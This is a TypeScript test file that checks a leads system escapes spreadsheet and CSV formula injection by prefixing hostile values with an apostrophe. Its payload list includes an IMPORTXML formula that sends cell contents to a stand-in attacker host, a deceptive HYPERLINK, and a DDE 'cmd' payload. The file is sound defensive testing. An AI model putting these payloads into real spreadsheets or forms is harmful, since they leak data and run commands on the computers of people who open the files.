import { expect, onTestFinished, test } from 'vitest';
import { spreadsheet } from '../../src/leads/delivery/spreadsheet.ts';
import { csvLine } from '../../src/leads/desk/csv.ts';
import { startRelay } from '../helpers/index.ts';

const hostile = [
  '=1+1',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=HYPERLINK("https://evil.example","Invoice")',
  "+1+cmd|' /C calc'!A0",
  '-1+cmd',
  '@SUM(A1:A9)',
  '|cmd',
  '%0A=1',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '+91 98765 43210=1+1',
];

async function cellsOf(
  form: 'proposal' | 'comment',
  fields: Record<string, string>,
): Promise<Record<string, string>> {
  const relay = await startRelay();
  onTestFinished(() => relay.stop());
  const lead = {
    id: 'a',
    receivedAt: new Date(),
    form,
    submissionId: 'a',
    follows: null,
    fields,
    attribution: {},
    audit: null,
    spam: null,
    spamSignals: [],
  };
  const sheet = spreadsheet(`${form}-sheet`, new URL(relay.url), 60);
  await sheet.send({ key: 'a', lead }, new AbortController().signal);
  const [request] = await relay.received(1);
  type Row = Record<string, string>;
  const sent = request?.json as { data: Row[] | Row } | undefined;
  return [sent?.data ?? []].flat()[0] ?? {};
}

test.each(hostile)('%j is a text in both spreadsheets and in CSV', async (cell) => {
  const proposal = { Name: cell, Company: cell, Phone: cell, WebsiteLink: cell, Message: cell };
  const { Email: _email, ...sent } = await cellsOf('proposal', proposal);
  const comment = await cellsOf('comment', { name: cell, comment: cell });
  for (const written of [...Object.values(sent), ...Object.values(comment)]) {
    // The apostrophe says that what follows is text; spreadsheets don't show it.
    expect(written).toBe(`'${cell}`);
  }
  expect(csvLine([cell])).toBe(`"'${cell.replaceAll('"', '""')}"\r\n`);
});

test.each(['+91 98765 43210', '+919876543210', '+91-98765-43210'])(
  'the number %s keeps its plus',
  async (Phone) => {
    expect(await cellsOf('proposal', { Phone })).toMatchObject({ Phone: '+91 98765 43210' });
    expect(csvLine([Phone])).toBe('"+91 98765 43210"\r\n');
  },
);
